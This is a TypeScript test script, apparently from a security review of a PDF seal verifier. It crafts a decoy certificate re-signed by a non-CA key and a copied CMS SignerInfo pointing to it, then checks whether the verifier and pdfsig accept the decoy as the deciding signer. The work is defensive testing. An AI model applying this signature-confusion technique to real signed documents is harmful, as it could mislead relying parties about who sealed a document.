// a17 S2: which SignerInfo decides (cd3c1f5, S3d) when a copy of the genuine one names another certificate.
// The sid lies outside the signature (RFC 5652 §5.3), and so does the certificates set. The copy, put first, keeps
// the genuine signed attributes and signature value, and its sid names a decoy: the seal certificate's own TBS with
// another serial number, re-signed by a key of no CA (so the same subject, issuer name and public key: the
// signature verifies with it, and sealIdentity calls it the broker's test seal, a preferred signer).
// decidingSigner takes the first preferred SignerInfo that verifies: does the decoy then decide the seal?
//   npx tsx scripts/attack-s12/decoy-signer.ts [first|last|alone]
// alone: the genuine SignerInfo's sid itself names the decoy (one SignerInfo), the control for what S3d added.
import * as asn1js from "asn1js";
import { sign } from "node:crypto";
import { readFileSync } from "node:fs";
import { dss, save, sealGap, show, tool, verify, withSealContents, work } from "../attack36/lib.js";
import { withCmsField } from "../attack-s8/lib.js";
import { setElements, signedDataFields } from "../attack-s9/lib.js";
import { encode, raw, seq } from "../generator/der.js";
import { generateRsaKey } from "../generator/keys.js";
import { derChildren, readTlv, type Tlv } from "../../src/pki/der.js";
import { decodeSignedData, findSignerCertificate } from "../../src/pki/cms.js";
import { certificateDer } from "../../src/pki/certificate.js";
import { pkiSession } from "../../src/pki/session.js";

const place = process.argv[2] ?? "first";
if (!["first", "last", "alone"].includes(place)) throw new Error("usage: [first|last|alone]");
const pdf = new Uint8Array(readFileSync("samples/valid/archive.pdf"));
const cms = sealGap(pdf).der;
const decoded = decodeSignedData(cms, "the seal", pkiSession(), true);
const seal = certificateDer(findSignerCertificate(decoded.signedData.signerInfos[0]!, decoded.certificates)!);

/** The certificate's TBS with serial number `serial`, signed by `key` (sha256WithRSAEncryption as the original). */
function decoyOf(cert: Uint8Array, serial: Uint8Array): Uint8Array {
  const top = readTlv(cert, 0, cert.length, true)!;
  const parts = derChildren(cert, top.body, top.end)!;
  const tbs = parts[0]!;
  const fields = derChildren(cert, tbs.body, tbs.end)!;
  const bytes = (t: Tlv) => cert.subarray(t.start, t.end);
  const at = fields[0]!.tag === 0xa0 ? 1 : 0;
  const newTbs = encode(seq(...fields.map((t, i) => raw(i === at ? serial : bytes(t)))));
  const sig = new asn1js.BitString({ valueHex: sign("sha256", newTbs, generateRsaKey(2048)) });
  return encode(seq(raw(newTbs), raw(bytes(parts[1]!)), sig));
}
const serial = encode(new asn1js.Integer({ valueHex: Uint8Array.from([0x7f, 0x17, 0xa1, 0x7e]) }));
const decoy = decoyOf(seal, serial);
const issuer = (() => {
  const top = readTlv(seal, 0, seal.length, true)!;
  const tbs = derChildren(seal, top.body, top.end)![0]!;
  const f = derChildren(seal, tbs.body, tbs.end)!;
  const at = f[0]!.tag === 0xa0 ? 3 : 2;
  return seal.subarray(f[at]!.start, f[at]!.end);
})();

const withCert = withCmsField(cms, 0xa0, [decoy]);
const { fields, rebuild } = signedDataFields(withCert);
const own = setElements(fields.at(-1)!)[0]!;
const t = readTlv(own, 0, own.length)!;
const parts = derChildren(own, t.body, t.end)!.map((x) => own.subarray(x.start, x.end));
const copy = encode(seq(...parts.map((p, i) => raw(i === 1 ? encode(seq(raw(issuer), raw(serial))) : p))));
const signers = place === "alone" ? [copy] : place === "first" ? [copy, own] : [own, copy];
fields[fields.length - 1] = encode(new asn1js.Set({ value: signers.map(raw) }));
const bytes = withSealContents(pdf, rebuild(fields));

const file = save(work(`s12-decoy-${place}`), "archive.pdf", bytes);
console.log(`wrote ${file}`);
const v = verify(file);
show(`decoy ${place}`, v);
const sig = tool("pdfsig", [file])
  .split("\n")
  .filter((l) => /Common Name|Validation|Total document/.test(l));
console.log(`== pdfsig: ${sig.map((l) => l.trim()).join(" | ")}`);
dss(file);
